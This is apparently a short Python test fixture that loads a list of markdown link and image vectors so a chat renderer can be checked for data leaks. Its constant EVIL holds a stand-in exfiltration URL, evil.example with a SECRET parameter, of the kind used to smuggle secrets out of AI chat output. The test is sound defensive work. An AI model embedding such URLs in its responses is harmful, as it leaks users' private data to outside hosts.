"""Ways to write an address into a text, each with one that would carry a secret out.

The page's renderer is tried with the same list (web/features/chat/markdown/vectors.json), which a test compares.
"""

import json
from pathlib import Path

PAGE_LIST = Path(__file__).parents[1] / "web" / "features" / "chat" / "markdown" / "vectors.json"

EVIL = "https://evil.example/c?d=SECRET"
VECTORS: dict[str, str] = json.loads(PAGE_LIST.read_text(encoding="utf-8"))
